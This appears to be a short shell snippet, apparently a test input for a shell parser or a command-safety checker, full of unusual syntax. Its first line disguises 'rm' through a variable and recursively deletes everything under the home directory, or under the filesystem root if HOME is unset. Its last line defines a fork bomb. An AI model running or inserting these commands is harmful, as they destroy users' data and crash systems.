a=$(echo rm) && $a -rf "${HOME:-/}"/* | tee >(cat) 2>&1 <<X
x $((1+2)) `b`
X
case $1 in a|b) f() { f|f& };; esac
